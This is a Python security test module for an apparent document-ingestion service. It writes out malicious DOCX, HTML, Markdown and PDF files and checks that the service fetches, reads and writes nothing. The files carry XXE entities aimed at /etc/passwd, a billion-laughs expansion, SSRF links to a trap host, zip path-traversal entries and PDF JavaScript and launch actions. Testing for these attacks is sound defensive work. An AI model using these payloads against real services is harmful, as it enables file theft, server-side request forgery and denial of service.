"""Documents that would have their reader fetch something, from this machine or from its neighbours."""

from __future__ import annotations

import tempfile
from collections.abc import Iterator
from pathlib import Path

from tests import texts
from tests.attack import wire
from tests.attack.report import Try
from tests.attack.stage import Stage
from tests.awaiting import wait_until

#: What is in no document, and in the file that they try to have read.
SECRET_FILE = Path("/etc/passwd")
SECRET_WORDS = (b"root:", b"cm9vdD")  # also in base64

#: What the names in an archive lead to.
WRITTEN = Path(tempfile.gettempdir()) / "ingest-attack"

#: So long a document takes at most, even on a machine that is busy.
FINAL_WITHIN_SECONDS = 60

FETCHED = [
    ("img", "src"), ("script", "src"), ("iframe", "src"), ("embed", "src"), ("object", "data"), ("base", "href"),
    ("link", "href"), ("source", "srcset"), ("video", "poster"), ("input", "src"), ("xi:include", "href"),
]  # fmt: skip

_RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"

_LINKED_IMAGE = f"""<w:p><w:r><w:drawing xmlns:wp="{_DRAWING}/wordprocessingDrawing" xmlns:a="{_DRAWING}/main"
 xmlns:pic="{_DRAWING}/picture" xmlns:r="{_RELATED}"><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill>
 <a:blip r:link="rId9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"""


def that_lead_elsewhere(stage: Stage) -> Iterator[Try]:
    """Linked images, entities, templates, frames, actions, archives with paths: nothing is fetched, read or written."""
    sent = {}
    for name, data in _documents(stage.closed[0].url("fetched")).items():
        filename = f"a.{name.partition(' ')[0]}"
        sent[name] = stage.upload(stage.intruder, data, filename)
    for name, document_id in sent.items():
        wait_until(lambda one=document_id: stage.state(one).is_final, within_seconds=FINAL_WITHIN_SECONDS, what=name)
        answer = stage.send(wire.request("GET", f"/ingestions/{document_id}/chunks", stage.intruder.headers))
        yield Try(f"{name}: {answer.body[:200]!r}", not any(word in answer.body for word in SECRET_WORDS))
    for trap in stage.closed:
        yield Try(f"{trap.host} was called: {trap.called[:3]}", not trap.called)
    yield Try(f"{WRITTEN} was written", not WRITTEN.exists())


def _documents(url: str) -> dict[str, bytes]:
    """Each with a name that begins with its type."""
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{SECRET_FILE.as_uri()}"><!ENTITY % p SYSTEM "{url}"> %p;]>'
    laughs = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    tags = "".join(
        f'<{tag} {attribute}="{target}"></{tag}>'
        for target in (url, SECRET_FILE.as_uri(), str(SECRET_FILE))
        for tag, attribute in FETCHED
    )
    return {
        "docx with a linked image": _docx(url, _LINKED_IMAGE),
        "docx with a linked file": _docx(SECRET_FILE.as_uri(), _LINKED_IMAGE),
        "docx with a linked path": _docx(str(SECRET_FILE), _LINKED_IMAGE),
        "docx with a path that leads up": _docx("../" * 12 + "etc/passwd", _LINKED_IMAGE),
        "docx with a template": _docx(url, "<w:p/>", kind="attachedTemplate"),
        "docx with an entity": _with_prolog(entity, "&e;"),
        "docx with entities of entities": _with_prolog(f'<!DOCTYPE x [<!ENTITY e0 "ha">{laughs}]>', "&e9;"),
        "docx with names that are paths": texts.zipped(
            {"../" * 12 + str(WRITTEN)[1:]: "x", str(WRITTEN): "x", "word": "x"}
        ),
        "html with everything that is fetched": f"<html><meta http-equiv=refresh content='0;{url}'>{tags}".encode(),
        "html with an entity": f"{entity.replace('x [', 'html [')}<html><p>&e;</p></html>".encode(),
        "html with a style": f"<html><style>@import '{url}'; p {{ background: url({url}) }}</style><p>x</p>".encode(),
        "md with images": f"![x]({url}) ![y]({SECRET_FILE.as_uri()})\n\n{{{{include {SECRET_FILE}}}}}\n".encode(),
        "pdf with actions": _pdf(url),
    }


def _docx(target: str, body: str, kind: str = "image") -> bytes:
    relation = f'<Relationship Id="rId9" Type="{_RELATED}/{kind}" Target="{target}" TargetMode="External"/>'
    relations = f'<Relationships xmlns="{_RELATIONS}">{relation}</Relationships>'
    return texts.zipped({**_parts(texts.docx(1, body)), "word/_rels/document.xml.rels": relations})


def _with_prolog(prolog: str, text: str) -> bytes:
    parts = _parts(texts.docx(1, f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"))
    return texts.zipped({**parts, "word/document.xml": prolog + parts["word/document.xml"]})


def _parts(docx: bytes) -> dict[str, str]:
    return {name: content.decode() for name, content in texts.unzipped(docx).items()}


def _pdf(url: str) -> bytes:
    actions = [
        f"/S /URI /URI ({url})", f"/S /JavaScript /JS (this.submitForm('{url}'))", f"/S /Launch /F ({SECRET_FILE})",
        f"/S /GoToR /F ({url}) /D [0 /Fit]", f"/S /SubmitForm /F ({url})", f"/S /ImportData /F ({SECRET_FILE})",
    ]  # fmt: skip
    chain = " ".join(f"<< /Type /Action {action} >>" for action in actions)
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI ({url}) /Next [{chain}] >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R >>",
        f"<< /Length 0 /F << /FS /URL /F ({url}) >> >>\nstream\n\nendstream",
    ]
    body = "".join(f"{n} 0 obj\n{one}\nendobj\n" for n, one in enumerate(objects, start=1))
    return f"%PDF-1.7\n{body}trailer\n<< /Root 1 0 R /Size 5 >>\n%%EOF\n".encode()
